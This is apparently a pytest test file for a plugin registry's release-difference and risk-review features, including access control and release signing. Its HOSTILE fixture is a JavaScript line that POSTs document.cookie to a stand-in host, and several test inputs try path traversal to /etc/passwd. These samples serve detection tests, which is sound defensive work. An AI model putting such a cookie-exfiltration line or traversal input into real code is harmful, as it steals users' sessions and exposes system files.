"""What is different in a submission: told to whoever may see it, and signed with the release."""

from typing import Any

import pytest

from qirvo.trust.release_index import read_release_index
from tests.support.registries import RegistryInProcess

HOSTILE = """'use strict';
exports.Weather = () => fetch('https://collect.example.net/s', { method: 'POST', body: document.cookie });
"""


def hostile_update(registry: RegistryInProcess, **added: str) -> str:
    """Publish a clean release, then have its hostile update in review; return the update's submission."""
    registry.published("1.0.0")
    return registry.in_review("1.1.0", plugin={"added": {"dist/index.js": HOSTILE, **added}})


def difference(registry: RegistryInProcess, submission: str) -> dict[str, Any]:
    answer: dict[str, Any] = registry.rob.get(f"/v1/submissions/{submission}/difference").json()
    return answer


def file(registry: RegistryInProcess, submission: str, path: str) -> dict[str, Any]:
    answer: dict[str, Any] = registry.rob.get(f"/v1/submissions/{submission}/difference/files/{path}").json()
    return answer


def test_the_difference_names_what_turned_and_how_grave_it_is(registry: RegistryInProcess):
    told = difference(registry, hostile_update(registry))
    assert (told["since"], told["gravity"], told["risk"]["tier"]) == ("1.0.0", "high", "critical")
    grave = {(each["kind"], each["what"]) for each in told["changes"] if each["gravity"] == "high"}
    assert ("network-host", "collect.example.net") in grave


def test_the_difference_lists_the_files_with_their_sizes(registry: RegistryInProcess):
    told = difference(registry, hostile_update(registry, **{"dist/more.js": "exports.x = 1;\n"}))
    by_path = {each["path"]: each for each in told["files"]}
    assert (by_path["dist/index.js"]["turn"], by_path["dist/index.js"]["bytesAfter"]) == ("changed", len(HOSTILE))
    assert (by_path["dist/more.js"]["turn"], by_path["dist/more.js"]["bytesBefore"]) == ("added", None)
    assert told["filesChanged"] == len(by_path)


def test_a_first_release_is_compared_with_none_and_says_so(registry: RegistryInProcess):
    told = difference(registry, registry.in_review())
    assert (told["since"], told["changes"], told["risk"]["tier"]) == (None, [], "medium")
    assert [each["rule"] for each in told["risk"]["reasons"]] == ["risk/first-release"]


def test_before_the_checks_nothing_is_said_of_the_risk(registry: RegistryInProcess):
    assert difference(registry, registry.submitted()) == {
        "since": None,
        "gravity": "low",
        "changes": [],
        "moreChanges": 0,
        "files": [],
        "filesChanged": 0,
        "risk": None,
    }


def test_the_submission_tells_its_tier_with_the_reasons(registry: RegistryInProcess):
    risk = registry.document(hostile_update(registry))["risk"]
    assert (risk["tier"], risk["reasons"][0]["tier"]) == ("critical", "critical")
    assert "`collect.example.net`" in " ".join(each["sentence"] for each in risk["reasons"])


@pytest.mark.parametrize("rest", ["", "/files/dist/index.js"])
def test_only_who_may_see_the_submission_may_see_its_difference(registry: RegistryInProcess, rest: str):
    path = f"/v1/submissions/{hostile_update(registry)}/difference{rest}"
    assert [registry.people[name].get(path).status_code for name in ("ann", "rob", "eve")] == [200, 200, 404]
    assert registry.client.get(path).status_code == 401


def test_a_changed_file_is_shown_as_a_diff(registry: RegistryInProcess):
    told = file(registry, hostile_update(registry), "dist/index.js")
    assert (told["path"], told["readable"], told["cut"]) == ("dist/index.js", "text", False)
    assert "-exports.Weather = () => null;" in told["lines"]


def test_a_new_file_with_an_odd_name_is_shown_whole(registry: RegistryInProcess):
    name = "docs/über 100 %.txt"
    told = file(registry, hostile_update(registry, **{name: "one\ntwo\n"}), "docs/%C3%BCber%20100%20%25.txt")
    assert (told["path"], told["lines"][-2:]) == (name, ["+one", "+two"])


def test_what_is_not_text_says_so(registry: RegistryInProcess):
    registry.published("1.0.0")
    told = file(registry, registry.in_review("1.1.0", plugin={"without": ["LICENSE"]}), "screenshots/sky.png")
    assert (told["readable"], told["cut"]) == ("binary", False)
    assert [line.partition(":")[0] for line in told["lines"]] == ["before", "after"]


def test_a_file_that_is_gone_is_shown(registry: RegistryInProcess):
    registry.published("1.0.0")
    told = file(registry, registry.in_review("1.1.0", plugin={"without": ["LICENSE"]}), "LICENSE")
    assert [line[0] for line in told["lines"]] == ["-", "+", "@", "-"]


@pytest.mark.parametrize("path", ["dist/nothing.js", "..%2F..%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd"])
def test_a_file_that_neither_has_is_named(registry: RegistryInProcess, path: str):
    answer = registry.rob.get(f"/v1/submissions/{hostile_update(registry)}/difference/files/{path}")
    assert (answer.status_code, answer.json()["code"]) == (404, "compared-file-unknown")


def test_a_file_is_compared_with_the_release_that_the_checks_compared_with(registry: RegistryInProcess):
    submission = hostile_update(registry)
    registry.published("1.0.5", plugin={"added": {"dist/index.js": "exports.Weather = () => 'later';\n"}})
    assert "-exports.Weather = () => null;" in file(registry, submission, "dist/index.js")["lines"]


def test_an_approved_release_is_signed_with_its_traits(registry: RegistryInProcess):
    registry.published("1.0.0")
    (path,) = (registry.read_plane / "targets").rglob("*.json")
    (release,) = read_release_index(path.read_bytes()).releases.values()
    assert release.traits is not None
    assert release.traits.entry_points == {"dist/index.js"}
    assert release.traits.maintainers == {"Ann"}  # no address is signed


def test_a_reviewer_can_begin_with_the_riskiest(registry: RegistryInProcess):
    registry.published("1.0.0")
    calm = registry.in_review("1.0.1")
    wild = registry.in_review("1.1.0", plugin={"added": {"dist/index.js": HOSTILE}})
    pages = [
        registry.rob.get("/v1/submissions", state="in-review", **query).json()["submissions"]
        for query in ({}, {"order": "risk"}, {"tier": "critical"}, {"tier": "low"})
    ]
    assert [[each["id"] for each in page] for page in pages] == [[calm, wild], [wild, calm], [wild], [calm]]


def test_an_order_that_is_none_is_refused(registry: RegistryInProcess):
    assert registry.rob.get("/v1/submissions", order="fear").status_code == 422
